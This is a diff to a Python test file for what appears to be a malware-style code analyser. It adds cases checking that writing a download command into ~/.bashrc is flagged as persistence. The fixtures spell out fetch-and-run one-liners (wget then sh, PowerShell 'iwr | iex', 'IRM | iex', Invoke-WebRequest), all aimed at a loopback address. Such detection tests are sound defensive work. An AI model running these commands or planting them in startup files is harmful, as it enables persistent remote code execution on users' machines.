@@ -418,6 +418,28 @@ def test_autostart_write() -> None:
     assert "autostart" in {h.kind for h in analyse(code).hits}
 
 
+
+@pytest.mark.parametrize(
+    ("command", "persistent"),
+    [
+        ("WGET -q http://127.0.0.1:9/a -O /tmp/.a && sh /tmp/.a", True),
+        ("iwr http://127.0.0.1:9/a.ps1 | iex", True),
+        ("IRM 'http://127.0.0.1:9/a.ps1' | iex", True),
+        ("Invoke-WebRequest -Uri http://127.0.0.1:9/a.exe -OutFile a.exe", True),
+        # (words that only hold the short forms: no download)
+        ("confirm http://127.0.0.1:9/a; airmail", False),
+    ],
+)
+def test_a_download_command_written_to_a_log_in_file(command: str, persistent: bool) -> None:
+    code = (
+        "import os\n"
+        "def refresh():\n"
+        "    with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
+        f"        rc.write({command!r})\n"
+    )
+    assert ("persist-fetch" in {h.kind for h in analyse(code).hits}) is persistent
+
+
 # --- pth-code ---------------------------------------------------------------------------
 
 
